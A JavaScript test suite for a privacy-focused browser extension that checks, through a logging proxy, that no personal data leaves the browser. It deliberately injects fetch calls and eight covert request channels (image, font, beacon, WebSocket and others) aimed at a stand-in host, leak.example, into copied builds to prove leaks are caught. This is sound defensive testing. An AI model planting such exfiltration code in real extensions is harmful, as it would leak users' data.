// Nothing leaves the browser: every request goes through a proxy that writes it down, while the product is used from first run to
// lock. What the open page asks for and what the browser asks of its maker is all there may be. Builds that leak on purpose show that
// the test sees; one that tries to, under the real content security policy, shows that the policy holds.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { ask, ROOT, serve, start, wanted } from './harness.mjs';
import { firstRun, PASSPHRASE, PERSON, waitForLabels } from './product.mjs';
import { proxy } from './proxy.mjs';

const DIST = path.join(ROOT, 'dist');
const LEAK = 'http://leak.example';
/** What browsers ask of their makers when they start, extension or not. */
const MAKERS = /(^|\.)(google\.com|googleapis\.com|gstatic\.com|mozilla\.(com|org|net)|firefox\.com)$/;

const WATCHED = PERSON.filter(({ kind }) => ['phone', 'email', 'plate'].includes(kind));
const PAGE = `<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,"><title>Elan</title>${WATCHED.map(({ value }) => `<p>… ${value} …</p>`).join('')}`;

/** A copy of the build, changed by `change(read, write)`. */
function breach(change) {
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'nightjar-breach-'));
  fs.cpSync(DIST, folder, { recursive: true });
  change(
    (name) => fs.readFileSync(path.join(folder, name), 'utf8'),
    (name, text) => fs.writeFileSync(path.join(folder, name), text),
  );
  return folder;
}

const BREACHES = {
  'the background': (read, write) => {
    const manifest = JSON.parse(read('manifest.json'));
    manifest.content_security_policy.extension_pages = "script-src 'self' 'wasm-unsafe-eval'; object-src 'self'";
    write('manifest.json', JSON.stringify(manifest));
    write('background.js', `chrome.runtime.onMessage.addListener(() => void fetch('${LEAK}/'));\n${read('background.js')}`);
  },
  'a content script': (read, write) => write('content.js', `fetch('${LEAK}/').catch(() => {});\n${read('content.js')}`),
};

/** Every way of asking that a script has beside `fetch`. Each has a host: of what is encrypted the proxy hears no more. */
const WAYS = ['image', 'font', 'prefetch', 'beacon', 'events', 'style', 'request', 'socket'];
const TRIES = `{
  const tries = [
    () => { new Image().src = 'http://image.leak.example/'; },
    () => new FontFace('leak', 'url(http://font.leak.example/)').load().catch(() => {}),
    () => document.documentElement.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'http://prefetch.leak.example/' })),
    () => document.documentElement.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://style.leak.example/' })),
    () => navigator.sendBeacon('http://beacon.leak.example/', 'x'),
    () => new EventSource('http://events.leak.example/'),
    () => { const request = new XMLHttpRequest(); request.open('GET', 'http://request.leak.example/'); request.send(); },
    () => new WebSocket('ws://socket.leak.example/'),
  ];
  for (const attempt of tries) try { attempt(); } catch {}
}`;
const seenWays = (urls) => WAYS.filter((way) => urls.some((url) => url.includes(`${way}.leak.example`)));

for (const browser of wanted) {
  describe(browser, () => {
    let server;
    before(async () => {
      server = await serve({ '/': PAGE, '/last': '' });
    });
    after(() => server.close());

    /** From first run to lock, and what was asked of the network meanwhile by anyone but the page and the browser's maker. */
    const use = async (extension) => {
      const log = await proxy();
      const session = await start({ browser, extension, ...log.options });
      try {
        const page = await session.open(server.url('/'));
        const own = await firstRun(session, { items: WATCHED });
        const found = WATCHED.map(({ label }) => label);
        await waitForLabels(own, page, found);
        for (const file of ['panel.html', 'options.html', 'welcome.html']) await (await session.openExtensionPage(file)).close();
        await ask(own, 'lock');
        await ask(own, 'unlock', { passphrase: PASSPHRASE });
        await waitForLabels(own, page, found);
        await page.evaluate(() => fetch('/last').then((response) => response.text()));
      } finally {
        await session.close();
        await log.close();
      }
      const asked = log.requests.map(({ url }) => (url.includes('://') ? new URL(url) : new URL(`https://${url}`)));
      assert.ok(
        asked.some(({ pathname }) => pathname === '/last'),
        'the proxy is used',
      );
      for (const { value } of WATCHED) {
        for (const { url, headers, body } of log.requests) {
          assert.ok(!decodeURIComponent(url + headers + body).includes(value), `${url} carries ${value}`);
        }
      }
      return asked.filter(({ origin, hostname }) => origin !== new URL(server.url('/')).origin && !MAKERS.test(hostname)).map(String);
    };

    test('no request of ours leaves the browser', async () => {
      assert.deepEqual(await use(DIST), []);
    });

    for (const [name, change] of Object.entries(BREACHES)) {
      test(`a leak by ${name} is seen`, async () => {
        const folder = breach(change);
        const strangers = await use(folder);
        fs.rmSync(folder, { recursive: true });
        assert.ok(strangers.length > 0 && strangers.every((url) => url.includes('leak.example')), `seen: ${strangers}`);
      });
    }

    test('whatever way of asking is taken in a page, it is seen', async () => {
      const folder = breach((read, write) =>
        write('content.js', `if (self === top) addEventListener('load', () => ${TRIES});\n${read('content.js')}`),
      );
      const strangers = await use(folder);
      fs.rmSync(folder, { recursive: true });
      assert.deepEqual(seenWays(strangers), WAYS);
    });

    test('in our own pages the policy stops every one of them, and without it they are seen', async () => {
      const trying = (policy) =>
        breach((read, write) => {
          write('options.js', `${TRIES}\n${read('options.js')}`);
          if (policy) return;
          const manifest = JSON.parse(read('manifest.json'));
          manifest.content_security_policy.extension_pages = "script-src 'self' 'wasm-unsafe-eval'; object-src 'self'";
          write('manifest.json', JSON.stringify(manifest));
        });
      for (const policy of [true, false]) {
        const folder = trying(policy);
        const strangers = await use(folder);
        fs.rmSync(folder, { recursive: true });
        // Firefox fetches nothing ahead for pages of extensions.
        const ways = browser === 'firefox' ? WAYS.filter((way) => way !== 'prefetch') : WAYS;
        assert.deepEqual(policy ? strangers : seenWays(strangers), policy ? [] : ways);
      }
    });

    test('the content security policy stops a background that tries', async () => {
      const folder = breach((read, write) =>
        write(
          'background.js',
          `chrome.runtime.onMessage.addListener(() => void fetch('${LEAK}/').catch(() => {}));\n${read('background.js')}`,
        ),
      );
      const strangers = await use(folder);
      fs.rmSync(folder, { recursive: true });
      assert.deepEqual(strangers, []);
    });
  });
}
